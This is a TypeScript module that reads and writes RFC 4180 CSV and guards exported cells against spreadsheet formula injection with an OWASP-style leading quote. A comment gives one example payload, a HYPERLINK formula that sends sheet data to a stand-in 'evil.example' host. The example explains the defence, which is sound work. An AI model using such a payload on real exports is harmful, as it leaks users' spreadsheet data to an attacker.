/** RFC 4180 records: fields separated by commas, records by CRLF, a field quoted when it holds `,` `"` CR or LF. */

export interface CsvRecord {
  /** 1-based line of the file where the record starts (quoted fields may span lines). */
  line: number;
  fields: string[];
}

export interface CsvProblem {
  line: number;
  reason: string;
}

function csvField(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

/**
 * A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or CR) as a formula: a page's
 * title such as `=HYPERLINK("https://evil.example/?d="&A2,"Open")` would become a live link that sends the sheet away.
 * OWASP's defence is a leading `'`, which spreadsheets show as text. So that our own import can take it off again
 * without ever taking off a quote the reader wrote, a cell that already starts with quotes before such a character
 * gets one more: `restoreFormulaCell` removes exactly one from every cell of that shape.
 */
const FORMULA_CELL = /^'*[=+\-@\t\r]/;

export function neutralizeFormulaCell(value: string): string {
  return FORMULA_CELL.test(value) ? `'${value}` : value;
}

export function restoreFormulaCell(value: string): string {
  return value.startsWith("'") && FORMULA_CELL.test(value) ? value.slice(1) : value;
}

export function writeCsv(records: readonly (readonly string[])[]): string {
  return records.map((fields) => `${fields.map(csvField).join(',')}\r\n`).join('');
}

/**
 * Reads RFC 4180 text, leniently as spreadsheets write it: LF or CRLF line ends, no final line end. A quote that
 * never closes (a truncated file) ends the reading with a problem at the line where that record began; a stray
 * character after a closing quote makes that record a problem. Blank lines are skipped.
 */
export function readCsv(text: string): { records: CsvRecord[]; problems: CsvProblem[] } {
  const records: CsvRecord[] = [];
  const problems: CsvProblem[] = [];
  let line = 1;
  let at = 0;
  while (at < text.length) {
    const startLine = line;
    const fields: string[] = [];
    let malformed = false;
    for (;;) {
      let value = '';
      if (text[at] === '"') {
        const quoteLine = line;
        at++;
        let closed = false;
        while (at < text.length) {
          const char = text[at] ?? '';
          if (char === '"') {
            if (text[at + 1] === '"') {
              value += '"';
              at += 2;
              continue;
            }
            at++;
            closed = true;
            break;
          }
          if (char === '\n') line++;
          value += char;
          at++;
        }
        if (!closed) {
          problems.push({ line: quoteLine, reason: 'a quoted field never ends: the file is truncated or malformed' });
          return { records, problems };
        }
        const next = text[at];
        if (next !== undefined && next !== ',' && next !== '\r' && next !== '\n') {
          malformed = true;
          while (at < text.length && text[at] !== ',' && text[at] !== '\n') at++;
        }
      } else {
        while (at < text.length && text[at] !== ',' && text[at] !== '\n' && text[at] !== '\r') value += text[at++] ?? '';
      }
      fields.push(value);
      if (text[at] === ',') {
        at++;
        continue;
      }
      if (text[at] === '\r') at++;
      if (text[at] === '\n') {
        at++;
        line++;
      }
      break;
    }
    if (malformed) problems.push({ line: startLine, reason: 'text after a closing quote' });
    else if (fields.length > 1 || fields[0] !== '') records.push({ line: startLine, fields });
  }
  return { records, problems };
}
